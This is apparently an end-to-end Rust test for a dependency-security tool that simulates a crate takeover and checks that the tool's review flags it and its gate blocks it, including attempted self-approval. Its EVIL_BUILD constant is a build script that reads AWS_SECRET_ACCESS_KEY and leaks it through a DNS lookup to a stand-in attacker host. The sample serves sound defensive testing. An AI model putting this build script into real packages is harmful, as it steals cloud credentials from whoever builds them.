//! Fortify end to end: the takeover attack reproduced with a sparse registry on loopback that
//! the test creates, lockfiles written by real cargo, then `init`, `review` and `gate`.
//!
//! `rust-utilities-v2` 2.1.0 -> 2.1.1 adds `url-parse` 0.1.0, whose build script reads
//! `AWS_SECRET_ACCESS_KEY` and leaks it through a DNS lookup. The crates are written by this
//! test and never compiled or run.
//!
//! The hardened files `init` writes are in `init.rs`, the gate's policy rules in `policy.rs`.

#[path = "../common/mod.rs"]
mod common;
mod init;
mod policy;

use common::*;
use std::path::Path;

const NOW: &str = "2026-11-25T12:00:00Z";

/// A commit of this repository, standing for the one a user pins.
const REFLEX_REV: &str = "13dd8db57823f80fbb86fd0475046d32f86a8e29";

const EVIL_BUILD: &str = r#"use std::net::ToSocketAddrs;

fn main() {
    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();
    let label: String = key.bytes().map(|b| format!("{b:02x}")).collect();
    let _ = format!("{label}.exfil.attacker.invalid:53").to_socket_addrs();
    println!("cargo:rerun-if-changed=build.rs");
}
"#;

/// rust-utilities-v2 2.1.0, then the takeover: 2.1.1 and the url-parse it adds.
fn releases() -> Vec<reflex::drill::registry::Publish> {
    vec![
        release(
            "rust-utilities-v2",
            "2.1.0",
            "2024-02-01T10:00:00Z",
            "",
            &[(
                "src/lib.rs",
                "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n",
            )],
        ),
        release(
            "rust-utilities-v2",
            "2.1.1",
            "2026-11-24T20:00:00Z",
            "\n[dependencies]\nurl-parse = \"0.1\"\n",
            &[(
                "src/lib.rs",
                "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n\npub use url_parse::parse;\n",
            )],
        ),
        release(
            "url-parse",
            "0.1.0",
            "2026-11-24T19:30:00Z",
            "",
            &[
                ("build.rs", EVIL_BUILD),
                ("src/lib.rs", "pub fn parse(s: &str) -> &str {\n    s\n}\n"),
            ],
        ),
    ]
}

/// Serves a sparse registry holding `releases` on loopback (the drill's registry: index lines
/// read from each manifest); returns its URL.
fn registry(releases: &[reflex::drill::registry::Publish]) -> String {
    registry_of(releases).0
}

/// The app depending on rust-utilities-v2 2.1, at `ws`.
fn app(ws: &Path) {
    std::fs::create_dir_all(ws.join("src")).unwrap();
    std::fs::write(
        ws.join("Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\npublish = false\n\n[dependencies]\nrust-utilities-v2 = \"2.1\"\n",
    )
    .unwrap();
    std::fs::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
}

fn reflex(ws: &Path, registry: &str, args: &[&str]) -> Run {
    let mut all = args.to_vec();
    all.extend([
        "--now",
        NOW,
        "--cargo-home",
        "reflex-cargo-home",
        "--no-fetch",
    ]);
    run_with(
        ws,
        &all,
        &[("CARGO_REFLEX_CRATES_IO_INDEX", registry)],
        None,
    )
}

fn signals<'a>(report: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    report["review"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no change for {name}: {report:#}"))
}

#[test]
fn takeover_bump_is_explained_by_review_and_blocked_by_gate_until_reverted() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    app(&ws);
    std::fs::write(
        ws.join(".gitignore"),
        "/target\n/__home\n/__cache\n/reflex-cargo-home\n",
    )
    .unwrap();

    // Before: the registry has only 2.1.0; cargo writes the lockfile; it is committed.
    let all = releases();
    let before = registry(&all[..1]);
    cargo_ok(
        &ws,
        &tmp.path().join("home-before"),
        &before,
        &["generate-lockfile"],
    );
    let lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
    assert!(
        lock.contains("name = \"rust-utilities-v2\"\nversion = \"2.1.0\""),
        "{lock}"
    );
    let full = registry(&all);
    init_is_the_baseline(&ws, &full);

    // The bump: the registry now has 2.1.1, which depends on url-parse.
    cargo_ok(
        &ws,
        &tmp.path().join("home-after"),
        &full,
        &["update", "-p", "rust-utilities-v2"],
    );
    let lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
    assert!(lock.contains("name = \"url-parse\""), "{lock}");

    review_explains_the_bump(&ws, &full);
    gate_denies_the_bump(&ws, &full);
    no_self_approval(&ws, &full);
    git(&ws, &["reset", "-q", "--hard", "HEAD~1"]);
    cargo_ok(
        &ws,
        &tmp.path().join("home-after"),
        &full,
        &["update", "-p", "rust-utilities-v2"],
    );

    // Reverted: the gate passes again.
    git(&ws, &["checkout", "--", "Cargo.lock"]);
    let reverted = reflex(&ws, &full, &["gate", "--base", "HEAD", "--format", "json"]);
    assert_eq!(reverted.code, 0, "{}{}", reverted.stdout, reverted.stderr);
    assert_eq!(
        json(&reverted)["review"]["changes"]
            .as_array()
            .unwrap()
            .len(),
        0
    );
}

/// init: today's graph becomes the baseline, committed; the gate passes on it.
fn init_is_the_baseline(ws: &Path, full: &str) {
    let init = reflex(ws, full, &["init"]);
    assert_eq!(init.code, 0, "{}{}", init.stdout, init.stderr);
    assert!(init.stderr.contains("wrote "), "{}", init.stderr);
    let policy = std::fs::read_to_string(ws.join("reflex.toml")).unwrap();
    assert!(policy.contains("min-age-days = 3") && policy.contains("require-approval = true"));
    git(ws, &["init", "-q", "-b", "main"]);
    git(ws, &["add", "-A"]);
    git(
        ws,
        &["commit", "-q", "-m", "app at rust-utilities-v2 2.1.0"],
    );
    let pass = reflex(ws, full, &["gate", "--format", "json"]);
    assert_eq!(
        pass.code, 0,
        "the baseline passes: {}{}",
        pass.stdout, pass.stderr
    );
}

/// review explains the bump: what arrives, why, and the build script's diff.
fn review_explains_the_bump(ws: &Path, full: &str) {
    let review = reflex(ws, full, &["review", "--format", "json"]);
    assert_eq!(
        review.code, 1,
        "what arrives is high risk: {}",
        review.stderr
    );

    let report = json(&review);
    assert_valid_report(&report);
    insta::assert_json_snapshot!("review_json", report);
    insta::assert_snapshot!("review_human", reflex(ws, full, &["review"]).stdout);
    let changes = report["review"]["changes"].as_array().unwrap();
    assert_eq!(changes.len(), 2, "{changes:#?}");
    assert_eq!(changes[0]["name"], "url-parse", "worst first: {changes:#?}");
    assert_eq!(
        changes[0]["risk"], "critical",
        "a new build script that reads secrets and can reach the network: {changes:#?}"
    );
    let utils = signals(&report, "rust-utilities-v2");
    assert_eq!(utils["kind"], "upgraded");
    assert_eq!(utils["bump"], "patch");
    assert_eq!(utils["introduces"][0], "url-parse 0.1.0");
    let parse = signals(&report, "url-parse");
    assert_eq!(parse["kind"], "added");
    assert_eq!(parse["moved_by"][0], "rust-utilities-v2 2.1.0 -> 2.1.1");
    assert_eq!(parse["age_days"], 0);
    let parse_signals: Vec<&str> = parse["signals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect();
    for code in [
        "build-time-secret-read",
        "review-build-script-added",
        "review-version-young",
        "review-new-crate",
    ] {
        assert!(parse_signals.contains(&code), "{code} in {parse_signals:?}");
    }
    let diff = &parse["code"]["diffs"][0];
    assert_eq!(diff["path"], "build.rs");
    assert!(
        diff["unified"]
            .as_str()
            .unwrap()
            .contains("+    let key = std::env::var(\"AWS_SECRET_ACCESS_KEY\")"),
        "{diff:#}"
    );
    assert_eq!(
        utils["code"]["files_changed"][1]["path"], "src/lib.rs",
        "{utils:#}"
    );
    let titles = report["findings"].to_string();
    assert!(
        titles.contains(
            "url-parse 0.1.0 enters the graph, added by rust-utilities-v2 2.1.0 -> 2.1.1"
        ),
        "{titles}"
    );

    // The Markdown is a PR comment: the change table, then the build script diff.
    let md = reflex(ws, full, &["review", "--format", "markdown"]).stdout;
    assert!(
        md.contains(
            "| `rust-utilities-v2 2.1.0 -> 2.1.1` | upgraded (patch) | adds url-parse 0.1.0"
        ),
        "{md}"
    );
    assert!(
        md.contains("```diff") && md.contains("AWS_SECRET_ACCESS_KEY"),
        "{md}"
    );
}

/// gate with the policy from init fails, with the reasons.
fn gate_denies_the_bump(ws: &Path, full: &str) {
    let gate = reflex(ws, full, &["gate", "--base", "HEAD", "--format", "json"]);
    assert_eq!(gate.code, 1, "{}{}", gate.stdout, gate.stderr);
    let report = json(&gate);
    assert_valid_report(&report);
    let sarif = reflex(ws, full, &["gate", "--base", "HEAD", "--format", "sarif"]);
    assert_valid_sarif(&sarif.stdout);
    insta::assert_snapshot!(
        "gate_human",
        reflex(ws, full, &["gate", "--base", "HEAD", "-q"]).stdout
    );
    let denied: Vec<(String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["denied"] == true)
        .map(|f| {
            (
                f["code"].as_str().unwrap().to_string(),
                f["package"]["name"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    for (code, name) in [
        ("build-script-not-approved", "url-parse"),
        ("cooldown-too-young", "url-parse"),
        ("cooldown-too-young", "rust-utilities-v2"),
        ("build-time-secret-read", "url-parse"),
        ("review-build-script-added", "url-parse"),
    ] {
        assert!(
            denied.contains(&(code.to_string(), name.to_string())),
            "{code} {name} in {denied:?}"
        );
    }
    assert_eq!(report["policy"]["path"], "reflex.toml");
    let annotations = reflex(ws, full, &["gate", "--format", "github"]);
    assert_eq!(annotations.code, 1);
    assert!(
        annotations
            .stdout
            .lines()
            .any(|l| l.starts_with("::error file=Cargo.lock,line=") && l.contains("url-parse")),
        "{}",
        annotations.stdout
    );
}

/// No self-approval: the same change adding trust records for itself is still denied, and
/// says what it tried. Approved the way the README says, it passes (left committed).
fn no_self_approval(ws: &Path, full: &str) {
    let base_policy = std::fs::read_to_string(ws.join("reflex.toml")).unwrap();
    let approve = "\n[[trust]]\ncrate = \"url-parse\"\nversion = \"0.1.0\"\nby = \"mallory\"\n\n[[trust]]\ncrate = \"rust-utilities-v2\"\nversion = \"2.1.1\"\nby = \"mallory\"\n\n[cooldown]\nmin-age-days = 0\n";
    let loosened_policy = base_policy.replace("min-age-days = 3", "min-age-days = 0");
    let approve = approve.replace("\n[cooldown]\nmin-age-days = 0\n", "");
    std::fs::write(
        ws.join("reflex.toml"),
        format!("{loosened_policy}{approve}"),
    )
    .unwrap();
    let selfish = reflex(ws, full, &["gate", "--base", "HEAD", "--format", "json"]);
    assert_eq!(selfish.code, 1, "{}{}", selfish.stdout, selfish.stderr);
    let report = json(&selfish);
    let findings = report["findings"].as_array().unwrap();
    let loosened = findings
        .iter()
        .find(|f| f["code"] == "policy-loosened")
        .unwrap_or_else(|| panic!("no policy-loosened: {report:#}"));
    assert_eq!(loosened["denied"], true);
    let evidence = loosened["evidence"].to_string();
    for what in [
        "new trust record: url-parse@0.1.0 by mallory",
        "new trust record: rust-utilities-v2@2.1.1 by mallory",
        "cooldown shortened from 3 to 0 days",
    ] {
        assert!(evidence.contains(what), "{what}: {evidence}");
    }
    assert!(
        findings
            .iter()
            .any(|f| f["code"] == "build-script-not-approved"
                && f["package"]["name"] == "url-parse"
                && f["denied"] == true),
        "the change's own trust record does not clear it: {report:#}"
    );
    // Approved the way the README says: the policy lands first in its own reviewed commit;
    // the change is then judged by it.
    git(ws, &["add", "reflex.toml"]);
    git(ws, &["commit", "-q", "-m", "approve url-parse 0.1.0"]);
    let approved = reflex(ws, full, &["gate", "--base", "HEAD", "--format", "json"]);
    assert_eq!(approved.code, 0, "{}{}", approved.stdout, approved.stderr);
    assert!(!approved.stdout.contains("policy-loosened"));
}

#[test]
fn init_ci_workflow_pins_everything_and_passes_zizmor_and_our_ci_lint() {
    let tmp = takeover();
    let ws = tmp.path().join("ws");
    let emitted = run(&ws, &["init", "--emit", "ci", "--reflex-rev", REFLEX_REV]);
    assert_eq!(emitted.code, 0, "{}", emitted.stderr);
    let ci = emitted.stdout;
    insta::assert_snapshot!("init_ci_workflow", ci);

    // Every action pinned to a full commit with its version beside it; each pin is one a real
    // project of the corpus uses.
    let uses: Vec<&str> = ci
        .lines()
        .filter_map(|l| {
            l.trim_start()
                .trim_start_matches("- ")
                .strip_prefix("uses: ")
        })
        .collect();
    assert_eq!(uses.len(), 3, "{uses:?}");
    for u in &uses {
        assert!(
            reflex::init::PINNED_ACTIONS.iter().any(|p| *u == p.uses()),
            "{u}"
        );
    }
    for p in reflex::init::PINNED_ACTIONS {
        assert!(reflex::init::is_commit(p.sha), "{p:?}");
        let source = std::fs::read_to_string(fixture("corpus").join(p.source)).unwrap();
        let repo_name: String = p.name.split('/').take(2).collect::<Vec<_>>().join("/");
        assert!(
            source.contains(&format!("@{} # {}", p.sha, p.version))
                && source.contains(&format!("uses: {repo_name}")),
            "{p:?} is not pinned so in {}",
            p.source
        );
    }

    // Credentials, token, install: what we preach.
    let doc = yaml(&ci);
    assert!(doc["permissions"].as_mapping().unwrap().is_empty());
    let job = &doc["jobs"]["build"];
    assert_eq!(job["permissions"].as_mapping().unwrap().len(), 1);
    assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
    let steps = job["steps"].as_vec().unwrap();
    assert_eq!(
        steps[0]["with"]["persist-credentials"].as_bool(),
        Some(false)
    );
    assert_eq!(doc["env"]["CARGO_REFLEX_REV"].as_str(), Some(REFLEX_REV));
    assert!(ci.contains(&format!(
        "cargo install --locked --git {} --rev \"$CARGO_REFLEX_REV\"",
        reflex::init::REPOSITORY
    )));
    assert!(!ci.contains("cargo install --locked cargo-reflex"));
    let runs: Vec<&str> = steps
        .iter()
        .filter_map(|s| s.as_mapping_get("run").and_then(|r| r.as_str()))
        .collect();
    assert!(runs.iter().all(|r| !r.contains("${{")), "{runs:#?}");
    assert!(runs.iter().any(|r| r.contains("cargo reflex gate --locked --base \"$BASE_SHA\" --format github --summary \"$GITHUB_STEP_SUMMARY\"")));
    assert!(
        runs.iter()
            .any(|r| r.contains("sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0"))
    );

    // zizmor: no findings.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(".github/workflows/reflex-build.yml");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, &ci).unwrap();
    match zizmor(&file) {
        Some((code, out)) => {
            assert_eq!(code, 0, "zizmor:\n{out}");
            assert!(out.contains("No findings"), "{out}");
        }
        None => skip_zizmor("the generated workflow was not checked by it"),
    }

    // Our own CI lint, on a project holding it: nothing to report, every cargo call locked.
    let clean = tempfile::tempdir().unwrap();
    copy_dir(&fixture("scenarios/hardened"), clean.path());
    std::fs::remove_dir_all(clean.path().join(".github")).unwrap();
    std::fs::create_dir_all(clean.path().join(".github/workflows")).unwrap();
    std::fs::write(clean.path().join(".github/workflows/reflex-build.yml"), &ci).unwrap();
    let audit = json(&run(
        clean.path(),
        &["audit", "--offline", "--format", "json", "--no-yanked"],
    ));
    assert_eq!(audit["ci"]["files"], 1);
    assert_eq!(audit["ci"]["locked_percent"], 100.0, "{:#}", audit["ci"]);
    assert!(
        !codes(&audit).iter().any(|c| c.starts_with("ci-")),
        "{:#?}",
        audit["findings"]
    );
}
